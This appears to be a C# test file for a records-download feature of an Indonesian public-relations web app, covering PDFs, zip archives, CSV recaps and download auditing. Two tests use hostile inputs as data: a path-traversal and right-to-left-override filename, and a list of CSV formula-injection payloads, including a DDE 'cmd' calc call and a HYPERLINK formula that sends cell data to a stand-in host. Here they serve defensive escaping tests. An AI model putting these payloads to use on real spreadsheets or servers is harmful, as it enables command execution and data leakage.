using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using Bakohumas.Domain.Accounts;
using Bakohumas.Domain.Agencies;
using Bakohumas.Domain.Audit;
using Bakohumas.Domain.Events;
using Bakohumas.Web.Data;
using Bakohumas.Web.Tests.Rig;
using Microsoft.EntityFrameworkCore;

namespace Bakohumas.Web.Tests.Records;

/// <summary>What leaves the house from <c>/arsip</c>: one paper, all papers, the recap; each hand-out is on record.</summary>
public sealed class DownloadTests(Site site) : IClassFixture<Site>
{
    [Fact]
    public async Task One_paper_is_the_sealed_file_under_a_plain_name()
    {
        var scene = await RecordsScene.OpenAsync(site);
        var signed = await scene.SignsAsync("Dinas");
        using var officer = await scene.OfficerAsync(Role.RegionalPr, RecordsScene.Kabupaten);

        var page = (await officer.GetAsync($"{scene.Address}/komitmen/{signed.PledgeId}.pdf")).IsOk();

        Assert.Equal(signed.Paper, page.Bytes);
        Assert.Equal("application/pdf", page.MediaType);
        Assert.Equal("attachment", page.ContentHeaders.ContentDisposition!.DispositionType);
        Assert.Matches($"^{signed.Code}-kantor-dinas-[0-9]+\\.pdf$", page.ContentHeaders.ContentDisposition.FileName!.Trim('"'));
    }

    [Fact]
    public async Task The_zip_holds_every_paper_and_a_list_of_hashes_that_fits()
    {
        var at = await A.Event(site);
        var odd = await A.Agency(site, "Dinas ../../etc/pässwd \"=1\" \u202Efdp.exe / C:\\Windows, Kota Bátu", AgencyType.RegionalOffice, "35", "35.79");
        var signed = new List<Signed>();
        for (var i = 0; i < 3; i++) signed.Add(await Signed.ByAsync(site, at, await A.Ticket(site, at, agency: odd)));
        await A.Ticket(site, at, agency: odd);
        await site.ReadAsync(db => db.SealingWork.Where(w => w.PledgeId == signed[2].PledgeId).ExecuteUpdateAsync(set => set.SetProperty(w => w.FileHash, (string?)null)));
        using var officer = await RecordsScene.OfficerAsync(site, Role.RegionalPr, "35.79");

        var page = (await officer.GetAsync($"/arsip/{at.Slug}/komitmen.zip")).IsOk();

        Assert.Equal("application/zip", page.MediaType);
        Assert.Equal($"komitmen-{at.Slug}.zip", page.ContentHeaders.ContentDisposition!.FileName!.Trim('"'));
        // Written while it is sent: nobody knew the length.
        Assert.True(page.Headers.TransferEncodingChunked);
        using var zip = new ZipArchive(new MemoryStream(page.Bytes));
        Assert.All(zip.Entries, entry => Assert.Matches("^(rekap\\.csv|daftar-sha256\\.txt|komitmen/[0-9A-Z]{16}-[a-z0-9-]+\\.pdf)$", entry.FullName));
        var papers = zip.Entries.Where(e => e.FullName.StartsWith("komitmen/", StringComparison.Ordinal)).ToDictionary(e => e.FullName, e => SHA256.HashData(Bytes(e)));
        Assert.Equal(2, papers.Count);
        var lines = Encoding.UTF8.GetString(Bytes(zip.GetEntry("daftar-sha256.txt")!)).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(
            papers.Select(p => $"{Convert.ToHexStringLower(p.Value)}  {p.Key}").Append($"# {signed[2].Code}: belum disegel").Order(StringComparer.Ordinal), lines.Order(StringComparer.Ordinal));
        Assert.Equal(signed.Take(2).Select(s => s.FileHash).Order(StringComparer.Ordinal), papers.Values.Select(Convert.ToHexStringLower).Order(StringComparer.Ordinal));
        var recap = Csv.Read(Encoding.UTF8.GetString(Bytes(zip.GetEntry("rekap.csv")!)));
        Assert.Equal(5, recap.Count);
    }

    [Fact]
    public async Task The_recap_says_who_came_and_signed_in_the_events_own_time()
    {
        var scene = await RecordsScene.OpenAsync(site);
        var signed = await scene.SignsAsync("Dinas");
        using (var door = await A.Door(site, scene.At)) await door.ScanAsync(scene.People["Pemkab"].DoorCode);
        using var officer = await scene.OfficerAsync(Role.RegionalPr, RecordsScene.Kabupaten);

        var page = (await officer.GetAsync(scene.Address + "/rekap.csv")).IsOk();

        Assert.Equal("text/csv", page.MediaType);
        Assert.Equal([0xEF, 0xBB, 0xBF], page.Bytes[..3]);
        var rows = Csv.Read(page.Text.TrimStart('\uFEFF'));
        Assert.Equal(["nama", "identitas", "instansi", "unit", "jabatan", "hadir", "waktu_hadir", "cara_hadir", "tanda_tangan", "waktu_tanda_tangan", "kode", "segel", "sha256"], rows[0]);
        var now = site.Clock.Now.ToOffset(TimeSpan.FromHours(7)).ToString("yyyy-MM-dd'T'HH:mm:ss'+07:00'", System.Globalization.CultureInfo.InvariantCulture);
        var dinas = rows.Single(r => r[0].StartsWith("Dinas", StringComparison.Ordinal));
        Assert.Equal(["ya", now, "petugas", "sudah", now, signed.Code, "disegel", signed.FileHash], dinas[5..]);
        Assert.Equal(["ya", now, "petugas", "belum", "", "", "", ""], rows.Single(r => r[0].StartsWith("Pemkab", StringComparison.Ordinal))[5..]);
        Assert.Equal(["tidak", "", "", "belum", "", "", "", ""], rows.Single(r => r[0].StartsWith("Bumd", StringComparison.Ordinal))[5..]);
    }

    [Fact]
    public async Task Nothing_that_a_person_typed_is_calculated_by_a_spreadsheet()
    {
        string[] formulas =
        [
            "=HYPERLINK(\"https://x.example/?\"&A1;\"klik\")", "\t=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "@SUM(1)", "-2+3", "+cmd|' /C calc'!A0", "\r=1", "\n=1", " =1", "\u00A0=1", "\u200B=1",
            "|calc", "%0A=1", "=1,2", "=\"a\nb\"", "=1\r\n=2", "\"=1\"",
        ];
        var at = await A.Event(site);
        var agency = await A.Agency(site, "=Dinas Rumus", AgencyType.RegionalOffice, "35", "35.76");
        foreach (var formula in formulas) await A.Ticket(site, at, formula, agency, change: r => (r.Unit, r.Position) = (formula, formula));
        using var officer = await RecordsScene.OfficerAsync(site, Role.RegionalPr, "35.76");

        var rows = Csv.Read((await officer.GetAsync($"/arsip/{at.Slug}/rekap.csv")).IsOk().Text.TrimStart('\uFEFF'))[1..];

        Assert.Equal(formulas.Length, rows.Count);
        Assert.All(rows, row =>
        {
            Assert.Equal(13, row.Count);
            Assert.StartsWith("'=Dinas", row[2], StringComparison.Ordinal);
            Assert.All(row, field => Assert.DoesNotMatch("^[\\s\u00A0\u200B]*[=+\\-@|%＝＋－＠\\t\\r\\n]", field));
        });
        // Nothing is lost: without the apostrophe it is what was typed.
        Assert.Equal(formulas.Order(StringComparer.Ordinal), rows.Select(r => r[0].TrimStart('\'')).Order(StringComparer.Ordinal));
        Assert.Equal(formulas.Order(StringComparer.Ordinal), rows.Select(r => r[3].TrimStart('\'')).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task Every_download_is_on_record_and_asking_for_the_headers_is_none()
    {
        var scene = await RecordsScene.OpenAsync(site);
        var signed = await scene.SignsAsync("Dinas");
        var foreign = await scene.SignsAsync("Pajak");
        var mail = await RecordsScene.HiredAsync(site, Role.RegionalPr, RecordsScene.Kabupaten);
        using var officer = await Accounts.Office.OfficerAsync(site, mail);
        string[] addresses = [$"{scene.Address}/komitmen/{signed.PledgeId}.pdf", scene.Address + "/komitmen.zip", scene.Address + "/rekap.csv"];

        foreach (var address in addresses)
        {
            var head = (await officer.SendAsync(HttpMethod.Head, address)).IsOk();
            Assert.Empty(head.Bytes);
            Assert.Equal("attachment", head.ContentHeaders.ContentDisposition!.DispositionType);
        }

        (await officer.GetAsync($"{scene.Address}/komitmen/{foreign.PledgeId}.pdf")).Is(HttpStatusCode.NotFound);
        Assert.Empty(await AuditAsync(scene.At));

        foreach (var address in addresses) (await officer.GetAsync(address)).IsOk();

        var me = await site.ReadAsync(db => db.Users.Where(a => a.Email == mail).Select(a => a.Id).SingleAsync());
        Assert.Equal(
            [(Acts.PaperDownloaded, signed.PledgeId), (Acts.RecordsDownloaded, scene.At.Id), (Acts.RecordsDownloaded, scene.At.Id)],
            (await AuditAsync(scene.At)).Select(a => (a.Act, a.SubjectId)).Order());
        Assert.All(await AuditAsync(scene.At), row => Assert.Equal((ActorKind.Account, me), (row.ActorKind, row.ActorId)));
    }

    private Task<List<AuditEntry>> AuditAsync(Event at) => site.ReadAsync(db => db.Audit.AsNoTracking()
        .Where(a => a.EventId == at.Id && (a.Act == Acts.PaperDownloaded || a.Act == Acts.RecordsDownloaded)).ToListAsync());

    private static byte[] Bytes(ZipArchiveEntry entry)
    {
        using var from = entry.Open();
        using var to = new MemoryStream();
        from.CopyTo(to);
        return to.ToArray();
    }
}
